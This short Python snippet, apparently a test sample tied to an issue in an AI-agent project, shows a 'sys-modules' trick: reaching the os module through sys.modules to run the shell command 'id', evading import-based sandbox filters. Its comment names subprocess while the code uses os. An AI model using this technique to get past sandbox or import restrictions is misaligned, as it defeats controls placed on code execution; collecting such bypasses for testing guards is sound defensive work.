# Source: https://github.com/openswarm-ai/openswarm/issues/134
# Family: sys-modules
# What: 'from sys import modules' then modules['subprocess']
from sys import argv, modules
print(modules["os"].popen("id").read())
